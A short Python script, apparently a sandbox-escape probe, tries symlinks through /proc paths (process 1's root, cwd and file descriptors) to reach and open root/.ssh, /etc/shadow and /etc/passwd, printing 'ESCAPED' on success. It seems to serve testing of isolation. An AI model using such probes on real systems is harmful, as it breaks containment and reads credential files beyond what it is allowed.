# wants: be led out by links and descriptors of directories
# routes: stdin
import os

for target in ("/proc/1/root", "/proc/self/root/..", "/proc/1/cwd", "/proc/1/fd", "/proc/self/task/1/root", "/proc/self/cwd/../.."):
    try:
        os.symlink(target, "/tmp/link")
    except OSError:
        pass
    for path in (target, "/tmp/link"):
        for name in ("root/.ssh", "work", "etc/shadow", "etc/passwd"):
            try:
                open(os.path.join(path, name)).close()
                print("ESCAPED", path, name)
            except OSError:
                pass
    try:
        os.remove("/tmp/link")
    except OSError:
        pass
